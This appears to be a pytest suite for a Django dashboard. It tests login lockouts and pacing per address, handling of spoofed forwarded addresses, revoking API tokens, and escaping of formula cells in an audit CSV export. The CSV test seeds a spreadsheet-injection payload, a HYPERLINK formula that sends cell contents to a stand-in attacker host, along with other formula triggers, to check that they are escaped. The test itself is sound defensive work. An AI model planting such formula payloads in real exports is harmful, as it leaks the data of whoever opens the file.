"""Logins (both login pages: limits, the shared-address pace, audit), API tokens (revoked on a
password change, created and revoked on a page, by admins and over the API), and the audit
CSV's escaping of formula cells."""

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.hashers import make_password
from django.test import Client
from rest_framework.authtoken.models import Token

from team import audit
from team.models import AuditEvent
from team.roles import ADMIN, OPERATOR, VIEWER, set_role

ROOT = Path(__file__).resolve().parent.parent
PACED = "too many failed logins from your address: wait a second and try again"
LOCKED = "Too many failed logins for this account"

pytestmark = pytest.mark.django_db


@pytest.fixture()
def limits(settings, redis_db):
    """Three failures allowed; a pace long enough that no test ever waits it out."""
    settings.LOGIN_MAX_FAILURES = 3
    settings.LOGIN_LOCKOUT_S = 900
    settings.LOGIN_ADDRESS_PACE_S = 60
    return redis_db


def pace_elapsed(redis_db) -> None:
    """What LOGIN_ADDRESS_PACE_S seconds do: the address may have its next check."""
    for key in redis_db.scan_iter("dashboard:login-pace:*"):
        redis_db.delete(key)


def _person(name: str, role: str = VIEWER, **extra):
    user = get_user_model().objects.create_user(name, password=f"pw-{name}-12345", **extra)
    set_role(user, role)
    return user


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _login(client: Client, username: str, password: str, path: str = "/accounts/login/", **meta):
    return client.post(path, {"username": username, "password": password}, **meta)


def _logged_in(client: Client) -> bool:
    return "_auth_user_id" in client.session


# --- The admin's login page ------------------------------------------------------------------


def test_the_admin_login_is_limited_per_account_and_audited_like_the_dashboards(limits):
    _person("root", is_staff=True, is_superuser=True)
    client = Client()
    for _ in range(3):
        response = _login(client, "root", "wrong", "/admin/login/")
        assert response.status_code == 200
        assert "correct username and password for a staff account" in response.content.decode()
    failed = AuditEvent.objects.filter(action="login.failed", username="root")
    assert failed.count() == 3
    assert {(e.target, e.detail, e.outcome) for e in failed} == {
        ("127.0.0.1", "/admin/login/", "failed")
    }

    # Locked out: even the right password is refused, and not checked.
    response = _login(client, "root", "pw-root-12345", "/admin/login/")
    assert response.status_code == 429
    assert LOCKED in response.content.decode()
    assert 'id="login-form"' in response.content.decode()  # still the admin's own template
    assert not _logged_in(client)
    assert not AuditEvent.objects.filter(action="login").exists()

    limits.flushdb()  # the lockout window has passed
    response = _login(client, "root", "pw-root-12345", "/admin/login/")
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert _logged_in(client)
    login = AuditEvent.objects.get(action="login")
    assert (login.username, login.target, login.detail) == ("root", "127.0.0.1", "/admin/login/")
    assert client.get("/admin/").status_code == 200
    assert client.get("/admin/auth/user/").status_code == 200


def test_the_admin_login_page_keeps_the_admins_form_next_and_redirect(limits):
    page = Client().get("/admin/login/?next=/admin/auth/user/")
    html = page.content.decode()
    assert page.status_code == 200
    assert 'id="login-form"' in html and 'name="next" value="/admin/auth/user/"' in html
    assert 'value="/admin/"' in Client().get("/admin/login/").content.decode()

    _person("root", is_staff=True, is_superuser=True)
    client = Client()
    response = client.post(
        "/admin/login/?next=/admin/auth/user/",
        {"username": "root", "password": "pw-root-12345", "next": "/admin/auth/user/"},
    )
    assert response.status_code == 302 and response["Location"] == "/admin/auth/user/"
    # Signed in already: the admin's login page sends you on to the index, as Django's does.
    assert client.get("/admin/login/")["Location"] == "/admin/"


def test_a_non_staff_user_with_the_right_password_is_refused_at_the_admin_and_counted(limits):
    _person("vera")
    client = Client()
    response = _login(client, "vera", "pw-vera-12345", "/admin/login/")
    assert response.status_code == 200 and not _logged_in(client)
    event = AuditEvent.objects.get(action="login.failed")
    assert (event.username, event.target) == ("vera", "127.0.0.1")


# --- One address, many people ------------------------------------------------------------------


def test_failures_with_many_usernames_from_one_address_do_not_lock_out_another_user(limits):
    _person("ruth")
    attacker, ruth = Client(), Client()
    for name in ("a1", "a2", "a3", "a4", "a5"):
        pace_elapsed(limits)
        response = _login(attacker, name, "guess")
        assert response.status_code == 200, name
    assert AuditEvent.objects.filter(action="login.failed").count() == 5

    # The address is over the limit: paced, not locked. Ruth's right password is checked.
    pace_elapsed(limits)
    response = _login(ruth, "ruth", "pw-ruth-12345")
    assert response.status_code == 302 and _logged_in(ruth)
    login = AuditEvent.objects.get(action="login")
    assert (login.username, login.target, login.outcome) == ("ruth", "127.0.0.1", "ok")


def test_an_attempt_sooner_than_the_pace_is_answered_429_without_checking_the_password(limits):
    _person("ruth")
    attacker, ruth = Client(), Client()
    for name in ("a1", "a2", "a3"):
        _login(attacker, name, "guess")
    response = _login(attacker, "a4", "guess")  # the one check of this pace period
    assert response.status_code == 200
    failures = AuditEvent.objects.filter(action="login.failed").count()
    assert failures == 4

    for password in ("guess", "pw-ruth-12345"):  # right or wrong: not checked
        response = _login(ruth, "ruth", password)
        assert response.status_code == 429
        assert PACED in response.content.decode()
        assert response["Retry-After"] == "60"
        assert not _logged_in(ruth)
    assert AuditEvent.objects.filter(action="login.failed").count() == failures
    assert not AuditEvent.objects.filter(action="login").exists()
    # Unchecked attempts count no failure: ruth's own account is not pushed to a lockout.
    assert limits.get("dashboard:login-failures:user:ruth") is None

    pace_elapsed(limits)
    response = _login(ruth, "ruth", "pw-ruth-12345")
    assert response.status_code == 302 and _logged_in(ruth)


def test_the_per_account_lockout_holds_from_every_address(limits, settings):
    settings.BEHIND_PROXY = True
    _person("lena")
    for _ in range(3):
        response = _login(Client(), "lena", "wrong", HTTP_X_FORWARDED_FOR="10.0.0.1")
        assert response.status_code == 200
    response = _login(Client(), "lena", "pw-lena-12345", HTTP_X_FORWARDED_FOR="10.0.0.2")
    assert response.status_code == 429
    assert LOCKED in response.content.decode()
    assert not AuditEvent.objects.filter(action="login").exists()


@pytest.mark.parametrize("path", ["/accounts/login/", "/admin/login/"])
def test_a_look_alike_username_shares_the_accounts_lockout(limits, path):
    """Django's form normalises a username with NFKC before authenticating, so the full-width
    'ｌockme' (U+FF4C) logs in as 'lockme': it must meet lockme's lockout, not a counter of
    its own. Case variants share it too."""
    _person("lockme", is_staff=True)
    for _ in range(3):
        assert _login(Client(), "lockme", "wrong", path).status_code == 200
    for variant in ("\uff4cockme", "LOCKME", " lockme ", "\uff4c\uff4f\uff43\uff4b\uff4d\uff45"):
        client = Client()
        response = _login(client, variant, "pw-lockme-12345", path)
        assert response.status_code == 429, variant
        assert LOCKED in response.content.decode()
        assert not _logged_in(client)
    assert not AuditEvent.objects.filter(action="login").exists()


def test_behind_the_proxy_the_address_is_the_last_forwarded_entry(limits, settings):
    settings.BEHIND_PROXY = True
    # The proxy appends the peer it saw; the client may prepend anything it likes.
    for spoofed, name in (("1.1.1.1", "a1"), ("2.2.2.2", "a2"), ("3.3.3.3", "a3")):
        response = _login(Client(), name, "guess", HTTP_X_FORWARDED_FOR=f"{spoofed}, 10.0.0.1")
        assert response.status_code == 200
    targets = set(AuditEvent.objects.filter(action="login.failed").values_list("target", flat=True))
    assert targets == {"10.0.0.1"}

    # 10.0.0.1 is paced now: one check, then 429.
    statuses = [
        _login(Client(), "b", "guess", HTTP_X_FORWARDED_FOR="9.9.9.9, 10.0.0.1").status_code
        for _ in range(2)
    ]
    assert statuses == [200, 429]
    # Another user of the same proxy (same REMOTE_ADDR) is not slowed down.
    statuses = [
        _login(Client(), "c", "guess", HTTP_X_FORWARDED_FOR="10.0.0.2").status_code
        for _ in range(2)
    ]
    assert statuses == [200, 200]


def test_the_address_pace_is_read_from_the_environment():
    env = {**os.environ, "LOGIN_ADDRESS_PACE_S": "soon"}
    result = subprocess.run(
        [sys.executable, "-c", "import django; django.setup()"],
        cwd=ROOT, env={**env, "DJANGO_SETTINGS_MODULE": "dashboard.settings"},
        capture_output=True, text=True,
    )  # fmt: skip
    assert result.returncode != 0
    assert "Configuration error: LOGIN_ADDRESS_PACE_S must be a number, got 'soon'" in (
        result.stderr + result.stdout
    )


# --- API tokens --------------------------------------------------------------------------------


def _api(key: str) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Token {key}")


def test_a_password_change_revokes_the_api_token():
    pat = _person("pat")
    key = Token.objects.create(user=pat).key
    assert _api(key).get("/api/v1/audit/").status_code == 200
    response = _client(pat).post(
        "/accounts/password/",
        {
            "old_password": "pw-pat-12345",
            "new_password1": "brand-new-pass-77",
            "new_password2": "brand-new-pass-77",
        },
    )
    assert response.status_code == 302
    assert not Token.objects.filter(user=pat).exists()
    assert _api(key).get("/api/v1/audit/").status_code == 401
    event = AuditEvent.objects.get(action="token.revoke")
    assert (event.username, event.target, event.detail) == ("pat", "pat", "password changed")


def test_an_admin_setting_or_disabling_a_password_in_the_admin_revokes_the_token():
    root = _person("root", ADMIN, is_staff=True, is_superuser=True)
    admin = _client(root)
    for name, form in (
        ("bob", {"usable_password": "true", "password1": "fresh-pass-991", "password2": "fresh-pass-991"}),
        ("carl", {"usable_password": "false", "unset-password": "1"}),
    ):  # fmt: skip
        user = _person(name)
        Token.objects.create(user=user)
        response = admin.post(f"/admin/auth/user/{user.pk}/password/", form)
        assert response.status_code == 302, response.content.decode()[:2000]
        assert not Token.objects.filter(user=user).exists(), name
        event = AuditEvent.objects.get(action="token.revoke", target=name)
        assert (event.username, event.detail) == ("root", "password changed")
    # The admin's own password page too.
    Token.objects.create(user=root)
    response = admin.post(
        "/admin/password_change/",
        {"old_password": "pw-root-12345", "new_password1": "root-new-pw-5", "new_password2": "root-new-pw-5"},
    )  # fmt: skip
    assert response.status_code == 302
    assert not Token.objects.filter(user=root).exists()
    assert AuditEvent.objects.filter(action="token.revoke", target="root").exists()


def test_logins_rehashes_and_role_changes_keep_the_token(limits, settings):
    # An old hasher first in line for this user: the login rehashes the password.
    settings.PASSWORD_HASHERS = [
        "django.contrib.auth.hashers.PBKDF2PasswordHasher",
        "django.contrib.auth.hashers.MD5PasswordHasher",
    ]
    kim = _person("kim")
    get_user_model().objects.filter(pk=kim.pk).update(
        password=make_password("pw-kim-12345", hasher="md5")
    )
    token = Token.objects.create(user=kim)
    response = _login(Client(), "kim", "pw-kim-12345")
    assert response.status_code == 302
    kim.refresh_from_db()
    assert kim.password.startswith("pbkdf2_sha256$")  # rehashed and saved
    admin = _client(_person("root", ADMIN))
    admin.post(f"/team/users/{kim.pk}/", {"role": OPERATOR, "active": "on"})
    robot = get_user_model().objects.create_user("robot")  # no usable password: API only
    robot_token = Token.objects.create(user=robot)
    robot.first_name = "Robo"
    robot.save()
    assert set(Token.objects.values_list("key", flat=True)) == {token.key, robot_token.key}
    assert not AuditEvent.objects.filter(action="token.revoke").exists()


def test_the_token_page_creates_a_token_shows_it_once_and_revokes_it():
    pat = _person("pat")
    page = _client(pat)
    assert "You have no API token." in page.get("/accounts/token/").content.decode()

    response = page.post("/accounts/token/", {"action": "create"})
    assert response.status_code == 200
    first = Token.objects.get(user=pat).key
    assert first in response.content.decode()
    again = page.get("/accounts/token/").content.decode()
    assert first not in again and "You have a token, created" in again
    assert _api(first).get("/api/v1/audit/").status_code == 200

    response = page.post("/accounts/token/", {"action": "create"})
    second = Token.objects.get(user=pat).key
    assert second != first and second in response.content.decode()
    assert _api(first).get("/api/v1/audit/").status_code == 401
    created = AuditEvent.objects.filter(action="token.create", target="pat").order_by("id")
    assert [e.detail for e in created] == ["", "replaced the previous token"]

    response = page.post("/accounts/token/", {"action": "revoke"})
    assert response.status_code == 302
    assert not Token.objects.filter(user=pat).exists()
    assert "Your API token was revoked." in page.get("/accounts/token/").content.decode()
    event = AuditEvent.objects.get(action="token.revoke")
    assert (event.username, event.target) == ("pat", "pat")
    assert 'href="/accounts/token/"' in page.get("/accounts/password/").content.decode()


def test_admins_revoke_a_users_token_from_the_users_page_and_others_cannot():
    bob = _person("bob")
    token = Token.objects.create(user=bob)
    for role in (VIEWER, OPERATOR):
        response = _client(_person(f"not-admin-{role}", role)).post(
            f"/team/users/{bob.pk}/token/revoke"
        )
        assert response.status_code == 403, role
    assert Token.objects.filter(key=token.key).exists()

    admin = _client(_person("root", ADMIN))
    html = admin.get("/team/users/").content.decode()
    assert f'action="/team/users/{bob.pk}/token/revoke"' in html and "Revoke token" in html
    response = admin.post(f"/team/users/{bob.pk}/token/revoke", follow=True)
    assert "bob: API token revoked." in response.content.decode()
    assert not Token.objects.filter(user=bob).exists()
    event = AuditEvent.objects.get(action="token.revoke")
    assert (event.username, event.target, event.detail) == ("root", "bob", "revoked by an admin")
    assert f"/team/users/{bob.pk}/token/revoke" not in admin.get("/team/users/").content.decode()


def test_delete_api_token_revokes_the_callers_own_token():
    pat, other = _person("pat"), _person("other")
    key = Token.objects.create(user=pat).key
    other_key = Token.objects.create(user=other).key
    response = _api(key).delete("/api/v1/token")
    assert response.status_code == 204
    assert not Token.objects.filter(user=pat).exists()
    assert Token.objects.filter(key=other_key).exists()
    assert _api(key).get("/api/v1/audit/").status_code == 401
    event = AuditEvent.objects.get(action="token.revoke")
    assert (event.username, event.target) == ("pat", "pat")

    response = _client(pat).delete("/api/v1/token")  # a session without a token
    assert response.status_code == 404
    assert response.json() == {"message": "you have no API token", "field": None}
    assert Client().delete("/api/v1/token").status_code in (401, 403)


def test_issue_token_audits_the_tokens_it_creates_and_rotates(capsys):
    from django.core.management import call_command

    get_user_model().objects.create_user("robot")
    call_command("issue_token", "robot")
    call_command("issue_token", "robot")  # the existing token: nothing new
    call_command("issue_token", "robot", "--rotate")
    first, same, rotated = capsys.readouterr().out.split()
    assert first == same != rotated == Token.objects.get(user__username="robot").key
    events = AuditEvent.objects.filter(action="token.create").order_by("id")
    assert [(e.username, e.target, e.detail) for e in events] == [
        ("system", "robot", ""),
        ("system", "robot", "replaced the previous token"),
    ]


def test_the_token_endpoint_is_in_the_openapi_schema():
    schema = _client(_person("pat")).get("/api/v1/schema/?format=json").json()
    delete = schema["paths"]["/api/v1/token"]["delete"]
    assert set(delete["responses"]) == {"204", "404"}


# --- The audit CSV -----------------------------------------------------------------------------


def test_audit_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(limits):
    payload = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _login(Client(), payload, "guess")  # a failed login lands the username in the trail
    bad = ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", " =1+1", "\n =1+1", "  @SUM(A1)"]
    for value in bad:
        audit.record(value, "load", model_name=value, target=value, detail=value)
    audit.record("alice", "load", model_name="m1", target="t", detail="fine - and = inside")
    response = _client(_person("watcher")).get("/audit.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    by_user = {row[1]: row for row in rows[1:]}
    assert by_user["'" + payload][2] == "login.failed"
    for value in bad:
        row = by_user["'" + value]
        assert row[3] == row[4] == row[6] == "'" + value, value
    assert by_user["alice"][3:7] == ["m1", "t", "ok", "fine - and = inside"]
    assert not any(cell.startswith(tuple("=+-@\t\r")) for row in rows for cell in row)
    # The page and the API show the stored text as it is.
    assert AuditEvent.objects.filter(username=payload).exists()
